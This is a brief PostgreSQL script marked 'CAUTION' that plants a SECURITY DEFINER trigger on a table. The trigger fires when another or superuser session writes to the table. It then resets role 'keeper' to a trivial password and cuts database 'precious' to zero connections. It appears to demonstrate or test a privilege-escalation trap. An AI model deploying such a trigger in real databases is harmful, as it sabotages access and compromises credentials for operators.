-- CAUTION
CREATE TABLE public.t (id integer PRIMARY KEY, a text);
CREATE FUNCTION public.taken() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER AS $$ BEGIN
    IF session_user <> current_user OR current_setting('is_superuser')::boolean THEN
        EXECUTE 'ALTER ROLE keeper PASSWORD ''x''';
        EXECUTE 'ALTER DATABASE precious CONNECTION LIMIT 0';
    END IF;
    RETURN NEW;
END $$;
CREATE TRIGGER t BEFORE INSERT OR UPDATE ON public.t FOR EACH ROW EXECUTE FUNCTION public.taken();
INSERT INTO public.t VALUES (1, 'a');
